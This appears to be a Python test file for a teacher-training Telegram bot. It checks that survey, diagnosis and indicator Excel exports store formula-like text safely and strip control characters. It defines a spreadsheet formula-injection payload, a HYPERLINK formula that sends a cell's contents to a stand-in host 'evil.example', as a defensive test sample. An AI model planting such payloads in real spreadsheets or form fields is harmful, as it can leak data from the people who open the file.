"""Every spreadsheet people open goes through the one safe writer: text Excel would read as a
formula stays text and control characters go, whatever a person typed or an old row holds. (The
event and mentoring files are checked in test_events.py and test_mentoring.py; the writer itself
in test_charts_reports.py.) Here: the diagnosis results, the survey answers and the indicators
report, named and anonymised."""

from __future__ import annotations

import io

import openpyxl
from sqlalchemy import update

import bot.jobs
from storage.models import User
from tests.conftest import BotEnv
from tests.fakes import TgUser
from tests.flows import (
    answer_items,
    documents,
    launch,
    open_general,
    open_section,
    register,
    settle,
    staff_user,
    survey_invites,
)

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A2,"Открыть")\x01'
HOSTILE_NOTE = "@SUM(A1:A9)\x07"
HOSTILE_ANSWER = "+1+1 нужен семинар"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def cells_are_safe(data: bytes) -> list[str]:
    """Every text cell of every sheet: no control characters, formula-like text stored as text
    and marked so. Returns the texts seen."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    seen = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if not isinstance(cell.value, str):
                    continue
                seen.append(cell.value)
                assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                assert not any(ord(ch) < 32 and ch not in "\t\n\r" for ch in cell.value), cell.value
                if cell.value.startswith(FORMULA_START):
                    assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
    return seen


async def test_results_answers_and_indicators_files_keep_hostile_text_as_text(env: BotEnv) -> None:
    staff = await staff_user(env)
    anna = env.user(6301)
    await register(anna, name="Учителева Анна Сергеевна")
    await open_general(anna)
    await anna.click("Начать")
    await answer_items(anna, lambda n: 0)
    # An old row (or a name typed before names were checked) holding formula-like text and a
    # control character; a school note too.
    async with env.repos() as repos:
        await repos.session.execute(
            update(User).where(User.tg_id == anna.id).values(full_name=HOSTILE_NAME, school_note=HOSTILE_NOTE)
        )
        await repos.commit()

    # A named survey, answered with formula-like free text.
    await launch(staff, "Профессиональные потребности и запросы", "🚀 Сейчас, один раз")
    await bot.jobs.survey_waves()
    await settle(env)
    await answer(anna)

    await open_section(staff, "📋 Мониторинг и анкетирование")
    await staff.click("🟢 Профессиональные потребности и запросы")
    await staff.click("📥 Ответы в Excel")
    seen = cells_are_safe(staff.last_message.document)
    assert HOSTILE_NAME.rstrip("\x01") in seen and HOSTILE_ANSWER in seen

    # The diagnosis results file.
    await open_section(staff, "🎯 Профессиональные дефициты")
    await staff.click("Общая диагностика профессиональных компетенций")
    await staff.click("весь регион")
    await staff.click("Выгрузить в Excel")
    seen = cells_are_safe(documents(staff)[-1])
    assert HOSTILE_NAME.rstrip("\x01") in seen

    # The indicators report, named and anonymised.
    await open_section(staff, "📈 Отчёты и показатели")
    await staff.click("📊 Показать показатели")
    await staff.click("📥 Таблица Excel")
    assert HOSTILE_NAME.rstrip("\x01") in cells_are_safe(documents(staff)[-1])
    await staff.click("📥 Excel без имён (обезличенный)")
    assert HOSTILE_NAME.rstrip("\x01") not in cells_are_safe(documents(staff)[-1])


async def answer(teacher: TgUser) -> None:
    await teacher.click("▶️ Начать / продолжить", message=survey_invites(teacher)[-1])
    await teacher.click("▫️ Другое")
    await teacher.click("Дальше ➡️")
    await teacher.send(HOSTILE_ANSWER)
    await teacher.click("Семинары и вебинары")
    await teacher.click("На каникулах")
    await teacher.click("Может быть, позже")
    await teacher.send("12")
    await teacher.click("✅ Отправить ответы")
    assert "Спасибо" in teacher.last_message.text
